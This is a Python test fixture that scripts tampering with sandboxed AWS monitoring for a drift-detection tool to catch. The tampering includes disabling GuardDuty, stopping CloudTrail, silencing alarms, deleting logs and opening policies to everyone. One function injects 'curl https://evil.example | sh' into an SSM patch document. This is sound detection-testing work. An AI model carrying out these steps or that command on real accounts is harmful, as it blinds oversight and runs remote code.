"""What watches, records and tells: logs, alarms, detection, parameters."""

from __future__ import annotations

from support.by_hand_harbour.wording import (
    ACCOUNT,
    CRITICAL,
    HIGH,
    LOW,
    MEDIUM,
    VIRGINIA,
    changed,
    deleted,
    for_everybody,
)

from reconciler.sandbox.by_hand.change import Console

_O = "module.operations."
_TOPIC = f"arn:aws:sns:ap-northeast-2:{ACCOUNT}:harbour-alarms"


def _detector(console: Console) -> str:
    return str(console.aws("guardduty").list_detectors()["DetectorIds"][0])


def _quiet_phones(console: Console) -> None:
    sns = console.aws("sns")
    phones = sns.list_platform_applications()["PlatformApplications"][0]["PlatformApplicationArn"]
    sns.delete_platform_application(PlatformApplicationArn=phones)


def _unsubscribe(console: Console) -> None:
    sns = console.aws("sns")
    known = sns.list_subscriptions_by_topic(TopicArn=_TOPIC)["Subscriptions"][0]["SubscriptionArn"]
    sns.unsubscribe(SubscriptionArn=known)


def _window(console: Console) -> None:
    ssm = console.aws("ssm")
    known = next(w["WindowId"] for w in ssm.describe_maintenance_windows()["WindowIdentities"])
    ssm.delete_maintenance_window(WindowId=known)


def _new_document(console: Console) -> None:
    ssm = console.aws("ssm")
    text = ssm.get_document(Name="harbour-patch", DocumentFormat="YAML")["Content"]
    made = ssm.update_document(
        Name="harbour-patch",
        Content=text.replace('"true"', '"curl https://evil.example | sh"').replace("true", "curl evil.example"),
        DocumentFormat="YAML",
        DocumentVersion="$LATEST",
    )
    ssm.update_document_default_version(
        Name="harbour-patch", DocumentVersion=made["DocumentDescription"]["DocumentVersion"]
    )


CHANGES = (
    changed(
        "Everybody may publish alarms",
        lambda c: c.aws("sns").set_topic_attributes(
            TopicArn=_TOPIC, AttributeName="Policy", AttributeValue=for_everybody("SNS:Publish", _TOPIC)
        ),
        f"{_O}aws_sns_topic.alarms",
        "policy",
        CRITICAL,
    ),
    changed(
        "Alarms in the second region encrypted with another key",
        lambda c: c.aws("sns", VIRGINIA).set_topic_attributes(
            TopicArn=f"arn:aws:sns:us-east-1:{ACCOUNT}:harbour-alarms",
            AttributeName="DisplayName",
            AttributeValue="nobody",
        ),
        "module.elsewhere.aws_sns_topic.alarms",
        "display_name",
    ),
    deleted("The watch no longer told by mail", _unsubscribe, f"{_O}aws_sns_topic_subscription.mail"),
    deleted("The phones' application deleted", _quiet_phones, f"{_O}aws_sns_platform_application.phones"),
    changed(
        "The patch's commands replaced", _new_document, f"{_O}aws_ssm_document.patch", "content|default_version", HIGH
    ),
    deleted("Sunday's maintenance deleted", _window, f"{_O}aws_ssm_maintenance_window.sunday"),
    changed(
        "The port closed by a parameter",
        lambda c: c.aws("ssm").put_parameter(Name="/harbour/mode", Value="closed", Type="String", Overwrite=True),
        f"{_O}aws_ssm_parameter.mode",
        "value|insecure_value",
        HIGH,
    ),
    deleted(
        "The parameter of the second region deleted",
        lambda c: c.aws("ssm", VIRGINIA).delete_parameter(Name="/harbour/mode"),
        "module.elsewhere.aws_ssm_parameter.mode",
    ),
    changed(
        "The recorder of configurations stopped",
        lambda c: c.aws("config").stop_configuration_recorder(ConfigurationRecorderName="harbour"),
        f"{_O}aws_config_configuration_recorder_status.this",
        "is_enabled",
        CRITICAL,
    ),
    changed(
        "Configurations delivered into another bucket",
        lambda c: c.aws("config").put_delivery_channel(
            DeliveryChannel={"name": "harbour", "s3BucketName": "harbour-logs"}
        ),
        f"{_O}aws_config_delivery_channel.this",
        "s3_bucket_name",
        MEDIUM,
    ),
    deleted(
        "The rule on encrypted volumes deleted",
        lambda c: c.aws("config").delete_config_rule(ConfigRuleName="harbour-volumes"),
        f"{_O}aws_config_config_rule.volumes",
    ),
    deleted(
        "The view over all regions deleted",
        lambda c: c.aws("config").delete_configuration_aggregator(ConfigurationAggregatorName="harbour"),
        f"{_O}aws_config_configuration_aggregator.this",
    ),
    changed(
        "Detection switched off",
        lambda c: c.aws("guardduty").update_detector(DetectorId=_detector(c), Enable=False),
        f"{_O}aws_guardduty_detector.this",
        "enable",
        CRITICAL,
    ),
    deleted(
        "The filter of findings deleted",
        lambda c: c.aws("guardduty").delete_filter(DetectorId=_detector(c), FilterName="noise"),
        f"{_O}aws_guardduty_filter.noise",
    ),
    changed(
        "The trail stopped",
        lambda c: c.aws("cloudtrail").stop_logging(Name="harbour"),
        f"{_O}aws_cloudtrail.this",
        "enable_logging",
        CRITICAL,
    ),
    changed(
        "The trail kept to one region",
        lambda c: c.aws("cloudtrail").update_trail(Name="harbour", IsMultiRegionTrail=False),
        f"{_O}aws_cloudtrail.this",
        "is_multi_region_trail",
        CRITICAL,
    ),
    changed(
        "The crane's alarm silenced",
        lambda c: c.aws("cloudwatch").disable_alarm_actions(AlarmNames=["harbour-crane"]),
        f"{_O}aws_cloudwatch_metric_alarm.crane",
        "actions_enabled",
        HIGH,
    ),
    changed(
        "The log kept for a day",
        lambda c: c.aws("logs").put_retention_policy(logGroupName="/harbour/app", retentionInDays=1),
        f"{_O}aws_cloudwatch_log_group.app",
        "retention_in_days",
        MEDIUM,
    ),
    changed(
        "The log of the second region kept for ever",
        lambda c: c.aws("logs", VIRGINIA).delete_retention_policy(logGroupName="/harbour/app"),
        "module.elsewhere.aws_cloudwatch_log_group.app",
        "retention_in_days",
        MEDIUM,
    ),
    deleted(
        "The log of names asked deleted",
        lambda c: c.aws("logs").delete_log_group(logGroupName="/harbour/queries"),
        "module.network.aws_cloudwatch_log_group.queries",
    ),
    deleted(
        "Errors no longer passed on",
        lambda c: c.aws("logs").delete_subscription_filter(logGroupName="/harbour/app", filterName="events"),
        f"{_O}aws_cloudwatch_log_subscription_filter.app",
    ),
    changed(
        "Everybody may write logs",
        lambda c: c.aws("logs").put_resource_policy(policyName="harbour-dns", policyDocument=for_everybody("logs:*")),
        f"{_O}aws_cloudwatch_log_resource_policy.dns",
        "policy_document",
        CRITICAL,
    ),
    changed(
        "Everybody may send logs here",
        lambda c: c.aws("logs").put_destination_policy(
            destinationName="harbour", accessPolicy=for_everybody("logs:PutSubscriptionFilter")
        ),
        f"{_O}aws_cloudwatch_log_destination_policy.this",
        "access_policy",
        CRITICAL,
    ),
    changed(
        "A tag taken off a log",
        lambda c: c.aws("logs").untag_log_group(logGroupName="/harbour/app", tags=["company"]),
        f"{_O}aws_cloudwatch_log_group.app",
        "tags_all|tags",
        LOW,
    ),
)
